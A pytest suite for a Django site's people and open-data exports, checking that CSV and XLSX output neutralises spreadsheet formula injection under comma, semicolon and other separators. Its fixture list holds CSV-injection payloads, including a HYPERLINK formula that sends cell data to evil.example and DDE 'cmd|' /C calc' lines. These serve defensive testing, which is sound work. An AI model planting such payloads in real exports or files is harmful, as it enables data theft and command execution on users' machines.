"""Formula injection: no cell of any CSV or XLSX export starts a formula, whatever
people or editors typed, and whatever separator the spreadsheet splits the file on
(a comma file opened where the list separator is ``;``, as in Albanian, or the
reverse): every piece between separators is checked, not only the cells the
file's own dialect makes."""

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from home.csvsafe import neutralise
from membership.models import ExportJob

from .conftest import HOST

membership_services = pytest.importorskip("membership.services")
movement_models = pytest.importorskip("movement.models")
from tests.movement.conftest import add_pledges, make_campaign  # noqa: E402

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# What the probe got through with a semicolon spreadsheet, then the classics.
PROBE = [";=1+2", "Krasniqi;@SUM(1+1)"]
HOSTILE = PROBE + [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Gashi,=1+2",
    "Berisha\t+1+1",
    "Hoxha|-1+1",
    "Rama\n=1+1",
    "Kelmendi; =1+1",
    "\uff1d1+2",
    "Shala;\uff20SUM(1)",
    '"=1+2"',
    'Gjoka,"=1+2',
]
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def pieces(text):
    """Every piece a spreadsheet could make a cell of, under any separator, quotes
    taken off as a spreadsheet does."""
    for separator in ",;\t|":
        for piece in re.split(f"[{re.escape(separator)}\r\n]", text):  # rows too
            yield piece.strip(" ").lstrip('"')


def assert_csv_safe(content, where):
    text = content.decode("utf-8-sig")
    for piece in pieces(text):
        if NUMBER.match(piece):  # a number is a number (negative counts, values)
            continue
        assert not piece.startswith(FORMULA_START), f"{piece!r} in {where}"


def csv_cells(content, delimiter=","):
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def assert_xlsx_safe(content, where):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula {cell.value!r} in {where}"
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    # Only a text cell (never evaluated) may keep a leading sign,
                    # as phone numbers "+383 …" do.
                    assert cell.data_type == "s", f"{cell.value!r} in {where}"
                    assert cell.value.startswith("+") and cell.column_letter, where


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_leaves_no_piece_that_starts_a_formula(text):
    safe = neutralise(text)
    for piece in pieces(safe):
        assert not piece.startswith(FORMULA_START), (text, safe)
    assert safe.replace("'", "") == text.replace("'", "")  # only apostrophes added


def test_neutralise_keeps_ordinary_text_as_it_is():
    for text in ("Prishtinë", "shqip, English", "Krasniqi; Gashi", "a-b", "e-mail@x.org", ""):
        assert neutralise(text) == text
    assert neutralise(None) == ""
    assert neutralise("Krasniqi;@SUM(1+1)") == "Krasniqi;'@SUM(1+1)"
    assert neutralise(";=1+2") == ";'=1+2"


@pytest.fixture
def hostile_people(org):
    for number, text in enumerate(HOSTILE):
        ids = membership_services.store_submission(
            site=org.site,
            page=org.home_sq,
            language="sq",
            email=f"f{number}@example.org",
            person={"given_name": text, "family_name": text, "country": text},
            signups=[
                {
                    "kind": "volunteer",
                    "fields": {"motivation": text, "skills": text, "languages_spoken": text},
                    "consents": [("signup", "Po.")],
                }
            ],
            notify=False,
        )
        membership_services.confirm(ids)


@pytest.mark.parametrize("dialect", ["", "semicolon"])
def test_membership_csv_is_safe_under_any_separator(
    client, org, hostile_people, superuser, dialect
):
    client.force_login(superuser)
    response = client.get(f"/admin/people/export/csv/?dialect={dialect}", HTTP_HOST=HOST)
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    assert content.startswith("\ufeff".encode())  # UTF-8 for spreadsheets
    assert_csv_safe(content, f"the people CSV ({dialect or 'comma'})")
    delimiter = ";" if dialect else ","
    cells = csv_cells(content, delimiter)
    # Read with its own separator, the file has the texts, neutralised.
    assert "Krasniqi;'@SUM(1+1)" in cells and ";'=1+2" in cells
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    header = content.decode("utf-8-sig").splitlines()[0]
    assert header.count(delimiter) > 10


def test_membership_xlsx_has_no_formula(client, org, hostile_people, superuser, settings, tmp_path):
    settings.MEMBERSHIP_EXPORT_ROOT = tmp_path
    settings.STORAGES = {
        **settings.STORAGES,
        "private": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": tmp_path},
        },
    }
    client.force_login(superuser)
    # Built by the export task (at once with the tests' backend), then downloaded.
    client.post("/admin/people/export/xlsx/", HTTP_HOST=HOST)
    job = ExportJob.objects.get()
    response = client.get(f"/admin/people/exports/{job.pk}/", HTTP_HOST=HOST)
    assert response.status_code == 200
    assert_xlsx_safe(b"".join(response.streaming_content), "the people XLSX")


@pytest.mark.parametrize("dialect", ["", "semicolon"])
def test_open_data_is_safe_under_any_separator(client, org, dialect):
    page, _ = make_campaign(org)
    for demand, text in zip(page.demands.all(), HOSTILE, strict=False):
        demand.title = text
        demand.explanation = text
        demand.indicator = text
        demand.unit = text[:20]
        demand.save()
    add_pledges(page, 2)
    movement_models.Pledge.objects.filter(campaign=page).update(name=PROBE[1], party=PROBE[0])
    from home.cache import invalidate_sites

    invalidate_sites()
    base = page.url
    delimiter = ";" if dialect else ","
    for name in ("demands", "progress", "pledges"):
        response = client.get(f"{base}data/{name}.csv?dialect={dialect}", HTTP_HOST=HOST)
        assert response.status_code == 200, name
        assert response["Content-Type"].startswith("text/csv")
        assert response.content.startswith("\ufeff".encode())
        assert_csv_safe(response.content, f"open data {name}.csv ({dialect or 'comma'})")
        cells = csv_cells(response.content, delimiter)
        if name == "demands":  # the hostile texts are there, neutralised
            assert "'=HYPERLINK" in response.content.decode("utf-8-sig")
            assert "Krasniqi;'@SUM(1+1)" in cells and ";'=1+2" in cells
        if name == "pledges":
            assert "Krasniqi;'@SUM(1+1)" in cells and ";'=1+2" in cells
